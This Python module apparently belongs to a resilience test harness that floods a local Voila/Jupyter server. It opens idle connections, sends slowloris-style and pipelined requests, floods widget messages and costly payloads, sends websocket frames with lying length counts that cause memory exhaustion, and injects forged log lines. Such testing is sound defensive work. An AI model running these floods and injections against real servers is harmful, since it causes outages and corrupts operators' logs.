"""Too much of everything: connections, requests, messages, pages, answers that nobody reads, texts that cost much."""

from __future__ import annotations

import asyncio
import json
from contextlib import suppress
from random import Random
from typing import Any

from visitors import Visit
from wire import SMALL, connect, receive

from .payloads import bombs
from .siege import Siege
from .targets import MOST

_LINES = 100
_PIPELINED = 300
_UNREAD = 2_000  # requests whose answers nobody reads, some 1.3 MB
_MESSAGES = 3_000
_PATIENCE = 2.0


async def attack(rng: Random, siege: Siege) -> None:
    """One flood."""
    kind = rng.choice((lines, slow_heads, pipelined, unread, incoming, costly))
    await kind(rng, siege)


async def lines(_lots: Random, siege: Siege) -> None:
    """Many connections, on which nothing is said."""
    opened = await asyncio.gather(*(connect(siege.tutor.port) for _ in range(_LINES)), return_exceptions=True)
    await asyncio.sleep(0.5)
    for pair in opened:
        if not isinstance(pair, BaseException):
            pair[1].close()


async def slow_heads(_lots: Random, siege: Siege) -> None:
    """Many requests that come letter by letter."""
    letters = [bytes([letter]) for letter in b"GET / HTTP/1.1\r\n"]
    await asyncio.gather(*(siege.say(letters, pause=0.05, seconds=0.5) for _ in range(_LINES // 2)))


async def pipelined(rng: Random, siege: Siege) -> None:
    """Many requests on one connection, whose answers nobody reads."""
    with suppress(OSError):
        reader, writer = await connect(siege.tutor.port, room=SMALL)
        path = rng.choice(("/", "/reference", "/coverage"))
        writer.write(f"GET {siege.target.base}{path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode() * _PIPELINED)
        await asyncio.sleep(_PATIENCE)
        writer.close()
        await receive(reader, 0.1)


async def unread(_lots: Random, siege: Siege) -> None:
    """Many requests over a page's socket, whose answers nobody reads."""
    page = await siege.open("20_play", is_slow=True)
    if page is None:
        return
    with suppress(ConnectionError, TimeoutError):
        for _ in range(_UNREAD):
            async with asyncio.timeout(_PATIENCE):
                await page.send("comm_info_request", {"target_name": "jupyter.widget"})
    await _no_longer_growing(siege)
    await siege.left(page)


async def _no_longer_growing(siege: Siege) -> None:
    """Wait until the server has got what there is for it, or far too much."""
    most = siege.highest
    for _ in range(8):
        await asyncio.sleep(_PATIENCE)
        if siege.highest == most:
            return
        most = siege.highest


async def incoming(rng: Random, siege: Siege) -> None:
    """Many messages over a page's socket, as fast as they go."""
    page = await siege.open("02_dice_cascade")
    if page is None:
        return
    with suppress(ConnectionError, AssertionError, TimeoutError):
        async with asyncio.timeout(20):
            names = sorted(await page.widgets())
            for _ in range(_MESSAGES):
                await _custom(page, rng.choice(names), {"event": "click", "tick": True})
    await siege.left(page)


async def costly(rng: Random, siege: Siege) -> None:
    """A long text, made to cost its reader much, to everything that takes one."""
    await loaded(siege, rng.choice(bombs(siege.marks)), rng.choice(("20_play", "60_box_editor", "50_explorer")))


async def loaded(siege: Siege, text: str, name: str) -> None:
    """Send a text as a saved file, or one's progress, to each widget of a page."""
    page = await siege.open(name)
    if page is None:
        return
    with suppress(ConnectionError, AssertionError, TimeoutError):
        async with asyncio.timeout(20):
            for widget, state in (await page.widgets()).items():
                if "Any" in str(state.get("_model_name")):
                    await _custom(page, widget, {"load": text, "kept": text})
            await page.ask("kernel_info_request", {})
    await siege.left(page)


async def bare(siege: Siege) -> None:
    """Several pages asked for from one address, and none of them entered."""
    asked = b"/voila/render/02_dice_cascade.ipynb"
    await asyncio.gather(*(siege.ask(asked) for _ in range(MOST)))


async def _custom(page: Visit, widget: str, content: dict[str, Any]) -> None:
    await page.send("comm_msg", {"comm_id": widget, "data": {"method": "custom", "content": content}})


async def rewritten_keys(siege: Siege) -> None:
    """A page's list of keys, made longer by the page; then one of the new ones is pressed."""
    page = await siege.open("20_play")
    if page is None:
        return
    with suppress(ConnectionError, AssertionError, TimeoutError):
        for widget, state in (await page.widgets()).items():
            if "watched" in state:
                update = {"method": "update", "state": {"watched": [siege.marks.tag]}, "buffer_paths": []}
                await page.send("comm_msg", {"comm_id": widget, "data": update})
                await _custom(page, widget, {"key": siege.marks.tag})
        await page.ask("kernel_info_request", {})
    await siege.left(page)


async def lying_counts(siege: Siege) -> None:
    """Few bytes that say how many parts they have: until November 2026 Jupyter made room for all of those first."""
    page = await siege.open("02_dice_cascade")
    if page is None:
        return
    with suppress(ConnectionError):
        for count in (b"\x67\x90\x7d\xeb", b"\x00\xff\xff\xff", b"\xff\xff\xff\xff", b"\x00"):
            await page.socket.write_message(count + b"{}")
    await asyncio.sleep(_PATIENCE)
    await siege.left(page)


async def forged_log(siege: Siege) -> None:
    """Five messages that make the kernel itself complain of what it was sent."""
    page = await siege.open("02_dice_cascade")
    if page is None:
        return
    with suppress(ConnectionError, AssertionError, TimeoutError):
        for _ in range(5):
            text = f"\n2026-01-01 00:00:00 ERROR {siege.marks.tag} " + "x" * 1_000_000
            whole = {
                "channel": "shell",
                "header": {"msg_id": "1", "msg_type": text, "session": "x"},
                "parent_header": {},
            }
            await page.socket.write_message(json.dumps(whole | {"metadata": {}, "content": {}, "buffers": []}))
        await page.ask("kernel_info_request", {})
    await siege.left(page)
